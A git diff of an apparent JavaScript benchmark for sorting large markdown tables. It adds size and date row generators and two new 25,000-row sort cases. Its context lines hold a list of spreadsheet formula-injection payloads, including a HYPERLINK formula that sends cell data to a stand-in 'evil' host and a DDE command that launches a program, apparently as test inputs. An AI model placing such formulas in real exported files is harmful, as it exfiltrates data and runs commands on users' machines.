@@ -15,8 +15,19 @@
 //   error fails the run (130,000 rows once threw a RangeError).
 import { measuredWindow, openBenchPage } from './lib.mjs';
 
-const table = (n) =>
-  `| Region | Orders | Total |\n|:--|--:|--:|\n${Array.from({ length: n }, (_, i) => `| Region ${i} | ${n - i} | ${i * 7}.00 |`).join('\n')}\n`;
+/** n rows whose Orders column falls from n to 1, written by `orders` (a number by default). */
+const table = (n, orders = (k) => `${k}`) =>
+  `| Region | Orders | Total |\n|:--|--:|--:|\n${Array.from({ length: n }, (_, i) => `| Region ${i} | ${orders(n - i)} | ${i * 7}.00 |`).join('\n')}\n`;
+/** k as a size, in bytes and kB by turns (one quantity in two units, read in one: src/chart/values.ts). */
+const size = (k) => (k % 2 ? `${k * 1024} bytes` : `${k} kB`);
+/** The k-th day after 1 Jan 2000 as `Mar 15, 2024`. */
+const named = (k) =>
+  new Date(Date.UTC(2000, 0, k)).toLocaleDateString('en-US', {
+    month: 'short',
+    day: 'numeric',
+    year: 'numeric',
+    timeZone: 'UTC',
+  });
 const FORMULAS = [
   '=HYPERLINK("http://evil/?"&A1,"x")',
   "=cmd\\|' /C calc'!A0",
@@ -83,6 +94,8 @@ const downloadDone = () => !!window.__swBenchBlob;
 export const TABLE_SHAPES = [
   ['sort a table of 3,000 rows', () => table(3_000), [[sortPress, sortDone, 3_000]]],
   ['sort a table of 25,000 rows', () => table(25_000), [[sortPress, sortDone, 25_000]]],
+  ['sort 25,000 sizes in two units (bytes, kB)', () => table(25_000, size), [[sortPress, sortDone, 25_000]]],
+  ['sort 25,000 dates written Mar 15, 2024', () => table(25_000, named), [[sortPress, sortDone, 25_000]]],
   [
     'sort a table of 130,000 rows (4.8 MB; no budget, must not throw)',
     () => table(130_000),
